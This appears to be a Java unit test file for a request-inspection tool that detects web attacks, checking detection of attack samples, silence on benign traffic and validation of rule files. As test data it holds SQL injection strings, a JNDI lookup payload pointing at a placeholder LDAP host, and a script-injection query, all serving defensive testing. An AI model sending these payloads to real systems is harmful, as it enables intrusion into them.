package dev.portcullis.gate.inspect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.strings;

import dev.portcullis.journal.Finding;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class RuleInspectionTest {
  private static final RuleInspection INSPECTION = RuleInspection.standard();

  @Test
  void everyAttackOfTheCorpusIsNoticedAsWhatItIs() {
    var missed = new ArrayList<Sample>();
    for (Sample sample : Sample.of("attacks.jsonl")) {
      if (sample.inspectedBy(INSPECTION).stream()
          .noneMatch(finding -> finding.category().equals(sample.category()))) {
        missed.add(sample);
      }
    }
    assertThat(missed).isEmpty();
    assertThat(Sample.of("attacks.jsonl")).hasSizeGreaterThan(150);
  }

  @Test
  void nobodyOrdinaryIsAccused() {
    var accused = new ArrayList<String>();
    for (Sample sample : Sample.of("benign.jsonl")) {
      List<Finding> findings = sample.inspectedBy(INSPECTION);
      if (!findings.isEmpty()) {
        accused.add(sample + " " + findings);
      }
    }
    assertThat(accused).isEmpty();
    assertThat(Sample.of("benign.jsonl")).hasSizeGreaterThan(200);
  }

  @Test
  void theCorpusHasAttacksOfEveryCategoryThatRulesAreAbout() {
    assertThat(Sample.of("attacks.jsonl"))
        .extracting(Sample::category)
        .containsAll(INSPECTION.categories());
  }

  @Test
  void anOrdinaryRequestReachesNoPattern() {
    Map<String, String> headers =
        Map.of(
            "host", "api.example.com",
            "user-agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                    + " Chrome/120.0.0.0 Safari/537.36",
            "accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "accept-language", "en-US,en;q=0.9,de;q=0.8",
            "accept-encoding", "gzip, deflate, br",
            "content-type", "application/json; charset=utf-8",
            "authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
            "if-none-match", "W/\"5f3-18c\"",
            "traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01");
    var tried = new ArrayList<String>();
    headers.forEach((name, value) ->
        INSPECTION
            .rules()
            .candidates(
                Place.HEADER, name, value, true, rule -> tried.add(name + " " + rule.id())));
    for (String path : List.of("/", "/v1/patients/4711", "/v1/orders/2024-03/items.json")) {
      INSPECTION
          .rules()
          .candidates(Place.PATH, "", path, true, rule -> tried.add(path + " " + rule.id()));
    }
    assertThat(tried).isEmpty();
  }

  @Test
  void aFindingSaysWhereAndNeverWhat() {
    assertThat(INSPECTION.head(SentHead.get("/v1/find?q=1%27%20or%20%271%27=%271")))
        .extracting(Finding::location)
        .containsOnly("query:q");
    assertThat(INSPECTION.head(SentHead.with("X-Api-Version", "${jndi:ldap://x.example/a}")))
        .containsExactly(new Finding("jndi-lookup", "jndi-injection", "header:x-api-version"));
    // A name is the client's text as well.
    assertThat(INSPECTION.head(SentHead.get("/v1/find?%3Cscript%3Ealert(1)%3C/script%3E=1")))
        .extracting(Finding::location)
        .containsOnly("query");
  }

  @Test
  void anAttackAtTheEndOfALongBodyIsNoticed() {
    String filler = "{\"text\": \"" + "it goes on and on, ".repeat(3_000) + "\", \"name\": ";
    byte[] body = (filler + "\"x' OR '1'='1\"}").getBytes(StandardCharsets.UTF_8);
    assertThat(INSPECTION.body("application/json", body))
        .extracting(Finding::category)
        .containsOnly("sql-injection");
  }

  @Test
  void anAttackOnTheSeamOfTwoPiecesIsNoticed() {
    for (int before = RuleSet.PIECE - 40; before < RuleSet.PIECE + 40; before++) {
      String value = "a ".repeat(before / 2) + "${jndi:ldap://x.example/a} and so on".repeat(2);
      byte[] body = ("{\"v\":\"" + value + "\"}").getBytes(StandardCharsets.UTF_8);
      assertThat(INSPECTION.body("application/json", body)).as("after %d", before).isNotEmpty();
    }
  }

  @Test
  void whatAttackersSendMoreOfIsNotReportedWithoutEnd() {
    var lines = new ArrayList<Map.Entry<String, String>>();
    for (int i = 0; i < 500; i++) {
      lines.add(Map.entry("X-" + i, "${jndi:ldap://x.example/a}"));
    }
    assertThat(INSPECTION.head(new SentHead("GET", "/", lines))).hasSizeLessThanOrEqualTo(16);
  }

  @Test
  void aBodyThatIsCutOffOrLiesAboutItsTypeIsStillRead() {
    byte[] cut = "{\"name\": \"admin' or '1'='1".getBytes(StandardCharsets.UTF_8);
    assertThat(INSPECTION.body("application/json", cut)).isNotEmpty();
    assertThat(INSPECTION.body("text/plain", cut)).isNotEmpty();
    assertThat(INSPECTION.body("", cut)).isNotEmpty();
  }

  @Test
  void whateverBytesComeNothingBreaks() {
    qt().forAll(strings().allPossible().ofLengthBetween(0, 300), integers().between(0, 5))
        .checkAssert((text, type) -> {
          String[] types = {
            "application/json", "text/xml", "multipart/form-data; boundary=b",
            "application/x-www-form-urlencoded", "", "image/png"
          };
          INSPECTION.head(SentHead.get("/" + text + "?" + text));
          INSPECTION.head(SentHead.with("Cookie", text));
          INSPECTION.head(SentHead.with("X-A", "${" + text + "%" + text));
          INSPECTION.body(types[type], text.getBytes(StandardCharsets.UTF_8));
          INSPECTION.body(types[type], text.getBytes(StandardCharsets.UTF_16));
        });
  }

  @Test
  void aRuleBookWithAMistakeSaysWhichRuleAndWhatWouldBeRight() {
    String good =
        """
        - id: mine
          category: sql-injection
          where: [query]
          needs: [secret]
          pattern: 'secret\\d+'
          description: Mine
          owasp: API8:2023
          attack: T1190
        """;
    assertThat(RuleInspection.of(good).head(SentHead.get("/?a=secret.7"))).isEmpty();
    assertThat(RuleInspection.of(good).head(SentHead.get("/?a=-secret7!"))).hasSize(1);
    assertThatThrownBy(() -> RuleInspection.of(good.replace("\\d+", "(?=x)")))
        .hasMessageContaining("rule mine: pattern")
        .hasMessageContaining("RE2");
    assertThatThrownBy(() -> RuleInspection.of(good.replace("[query]", "[everywhere]")))
        .hasMessageContaining("rule mine: where")
        .hasMessageContaining("QUERY");
    assertThatThrownBy(() -> RuleInspection.of(good.replace("needs", "need")))
        .hasMessageContaining("rule mine: unknown [need]");
    assertThatThrownBy(() -> RuleInspection.of(good + good)).hasMessageContaining("stands twice");
    assertThatThrownBy(() -> RuleInspection.of("a: [")).hasMessageContaining("not YAML");
  }
}
